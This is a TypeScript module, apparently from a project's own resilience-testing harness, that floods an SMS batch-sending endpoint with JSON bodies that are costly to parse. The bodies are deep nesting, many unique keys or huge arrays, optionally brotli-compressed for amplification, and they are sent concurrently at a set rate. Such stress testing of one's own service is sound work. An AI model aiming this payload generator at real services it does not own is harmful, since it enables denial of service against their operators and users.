import { setTimeout } from 'node:timers/promises';
import { brotliCompressSync } from 'node:zlib';
import { DEMO } from '@ardor/domain/message/demo';
import { Agent, request } from 'undici';
import type { Attack } from '../attack.js';

const PATH = '/api/sms/v1/sendsms/batch';
const BASIC = `Basic ${Buffer.from(`${DEMO.clientId}:${DEMO.passcode}`).toString('base64')}`;

const CREDENTIALS = `"client_id":"${DEMO.clientId}","passcode":"${DEMO.passcode}"`;

/** Unique keys, so that nothing of the parser's work can be shared. */
function keys(bytes: number): string {
  let text = '"k":1';
  for (let n = 0; text.length < bytes - 20; n++) text += `,"k${n.toString(36)}":1`;
  return text;
}

/** The bodies by name, of about so many bytes. Those without credentials cost before anybody knows who sends them. */
const BODIES: Readonly<Record<string, (bytes: number) => string>> = {
  deep: (bytes) => `{"a":${'['.repeat(bytes - 5)}`,
  keys: (bytes) => `{${keys(bytes)}}`,
  elements: (bytes) => `{"a":[${'[],'.repeat(bytes / 3 - 4)}1]}`,
  unknown: (bytes) => `{${CREDENTIALS},${keys(bytes - CREDENTIALS.length)}}`,
};

export const attack: Attack = {
  summary:
    'Posts bodies that are costly to parse. Options: body=deep|keys|elements|unknown, bytes=1048576, encoding=br|identity, rate=8, basic=no|yes.',
  run: async ({ api, seconds, option }) => {
    const make = BODIES[option('body', 'deep')];
    if (!make) return ['no such body'];
    const isCompressed = option('encoding', 'br') === 'br';
    const text = make(Number(option('bytes', '1048576')));
    const body = isCompressed ? brotliCompressSync(text) : Buffer.from(text);
    const headers = {
      'content-type': 'application/json',
      ...(isCompressed ? { 'content-encoding': 'br' } : {}),
      ...(option('basic', 'no') === 'yes' ? { authorization: BASIC } : {}),
    };
    const agent = new Agent({ connections: 64, headersTimeout: 60_000 });
    const seen = new Map<string, number>();
    let largest = 0;
    const post = async (): Promise<string> => {
      const response = await request(api + PATH, { method: 'POST', headers, body, dispatcher: agent });
      const text = await response.body.text();
      largest = Math.max(largest, text.length);
      return `${response.statusCode} ${(JSON.parse(text) as { reason?: string }).reason ?? ''}`;
    };
    const posted: Promise<void>[] = [];
    const until = performance.now() + seconds * 1000;
    while (performance.now() < until) {
      posted.push(
        post().then(
          (outcome) => void seen.set(outcome, (seen.get(outcome) ?? 0) + 1),
          () => void seen.set('no response', (seen.get('no response') ?? 0) + 1),
        ),
      );
      await setTimeout(1000 / Number(option('rate', '8')));
    }
    await Promise.all(posted);
    await agent.close();
    return [`${body.length} bytes a body`, `largest response ${largest} bytes`, ...counts(seen)];
  },
};

const counts = (seen: ReadonlyMap<string, number>): string[] => [...seen].map(([what, count]) => `${what}: ${count}`);
